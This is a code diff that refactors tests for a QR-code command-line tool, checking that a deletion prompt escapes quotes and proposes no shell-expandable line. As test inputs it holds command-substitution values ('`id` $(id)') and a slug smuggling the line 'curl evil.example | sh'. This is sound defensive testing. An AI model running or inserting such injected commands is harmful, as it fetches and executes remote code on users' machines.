@@ -15,6 +15,7 @@ import { chooseColumns } from '#files/formats/columns';
 import { refuseChecked } from '#files/formats/read/input';
 import { parseBaseUrl } from '#service/base-url';
 import { responseError } from '#service/response-error';
+import type { QrCode } from '#service/shapes';
 import { unknownProfile } from '#settings/resolve';
 import { renderError } from '#terminal/render-error';
 import { change, endOf, itemOf } from '../../codes/engine/results/plan-builder.ts';
@@ -115,21 +116,22 @@ describe('a word of a line to paste', () => {
   });
 });
 
-test('the prompt before a deletion proposes no line that a shell would expand', async () => {
+/** What is said before the deletion of these codes, the question included. */
+async function promptFor(codes: readonly QrCode[]) {
   const said: string[] = [];
-  const console = { note: (line: string) => said.push(line), ask: async () => '' };
-  const service = modelService({
-    listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }),
-  });
-  const context = {
-    console,
-    settings: async () => ({ profile: 'work', keySource: 'profile' }),
-    service: async () => service,
-  } as unknown as Context;
-  const ask = (slug: string) =>
-    confirm(context, [{ ...CODE, slug }], { yes: undefined, dryRun: undefined }).catch(() => undefined);
-  await ask('`id` $(id)');
-  await ask('aB3xY');
+  const note = (line: string) => said.push(line);
+  const console = { note, ask: async (line: string) => String(note(line)) };
+  const page = { rows: [], times: [], total: 7, serviceTimeMs: undefined };
+  const service = modelService({ listScans: async () => page });
+  const settings = async () => ({ profile: 'work', keySource: 'profile' });
+  const context = { console, settings, service: async () => service } as unknown as Context;
+  await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
+  return said;
+}
+
+test('the prompt before a deletion proposes no line that a shell would expand', async () => {
+  const lines = ['`id` $(id)', 'aB3xY'].map((slug) => promptFor([{ ...CODE, slug }]));
+  const said = (await Promise.all(lines)).map(([first = '']) => first);
   expect(said.map((line) => /qrctl qr update [^`]*/.exec(line)?.[0])).toEqual([
     `qrctl qr update ${CODE.id} --status paused`,
     'qrctl qr update aB3xY --status paused',
@@ -232,19 +234,8 @@ describe.each(Object.entries(SENTENCES))('%s', (_, say) => {
 test.each([1, 2])(
   'the prompt before the deletion of %i codes has quoted names, in which quotes are escaped',
   async (count) => {
-    const said: string[] = [];
-    const note = (line: string) => said.push(line);
-    const console = { note, ask: async (line: string) => String(note(line)) };
-    const service = modelService({
-      listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }),
-    });
-    const context = {
-      console,
-      settings: async () => ({ profile: 'work', keySource: 'profile' }),
-      service: async () => service,
-    } as unknown as Context;
     const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
-    await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
+    const said = await promptFor(codes);
     const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
     expect(said.join('\n')).toContain(expected);
   },
